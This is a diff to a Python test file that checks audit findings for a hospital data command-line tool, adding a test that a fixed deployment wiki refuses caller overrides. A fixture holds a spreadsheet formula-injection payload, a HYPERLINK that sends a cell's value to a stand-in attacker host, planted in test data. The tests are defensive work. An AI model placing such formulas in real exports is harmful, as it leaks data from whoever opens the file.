@@ -166,6 +166,27 @@ def test_finding_4_the_caller_cannot_choose_the_accounts_or_the_state(config: Pa
     assert [(e["user"], e["ok"]) for e in events(state, "login")] == [("h2.referent_pilotage", True)]
 
 
+def test_finding_4_a_deployment_that_fixes_the_wiki_refuses_another(accounts: Path, demo_dir: Path, state: Path,
+                                                                     tmp_path: Path) -> None:
+    """Relative paths are the deployment file's folder's; a fixed wiki refuses the caller's --wiki and $WORKBENCH_WIKI."""
+    import shutil
+
+    shutil.copytree(PROJECT_ROOT / "wiki", accounts.parent / "wiki")
+    config = accounts.parent / "deployment.yaml"
+    config.write_text(f"access: access.yaml\ncatalog: {demo_dir / 'catalog.yaml'}\nstate: {state}\nwiki: wiki\n",
+                      encoding="utf-8")
+    config.chmod(0o644)
+    done = run("indicators", "list", "--format", "json", role="clinicien", config=config)
+    assert done.returncode == 0, done.stderr
+    assert "nb_sejours" in {row["id"] for row in json.loads(done.stdout)}
+    forged = tmp_path / "forged-wiki"
+    refused_cleanly(run("indicators", "list", "--wiki", str(forged), role="clinicien", config=config),
+                    "le wiki est celui du déploiement")
+    refused_cleanly(run("indicators", "list", role="clinicien", config=config, WORKBENCH_WIKI=str(forged)),
+                    "configuration refusée")
+    assert [e["user"] for e in events(state, "refused")] == ["h2.clinicien", "h2.clinicien"]
+
+
 # ----------------------------------------------------------------- finding 9: catalogue
 
 
@@ -257,7 +278,7 @@ FORMULA = '=HYPERLINK("http://attaquant.example/?"&A1,"HA")'
 
 
 @pytest.fixture()
-def poisoned(tmp_path: Path) -> Path:
+def poisoned(tmp_path: Path, state: Path) -> Path:
     """The hand-written OMOP fixture whose hospital code is a spreadsheet formula, and its catalogue."""
     from semantic.fixtures import write_omop_csv
 
@@ -266,7 +287,8 @@ def poisoned(tmp_path: Path) -> Path:
     rows = [[FORMULA if value == "HA" else value for value in row] for row in csv.reader(io.StringIO(table.read_text()))]
     with table.open("w", newline="", encoding="utf-8") as stream:
         csv.writer(stream).writerows(rows)
-    done = run("catalog", "init", "--source", str(export), "--flavour", "omop", "--out", str(tmp_path / "catalog.yaml"))
+    done = run("catalog", "init", "--source", str(export), "--flavour", "omop", "--out", str(tmp_path / "catalog.yaml"),
+               WORKBENCH_STATE=str(state))
     assert done.returncode == 0, done.stderr
     return tmp_path / "catalog.yaml"
 
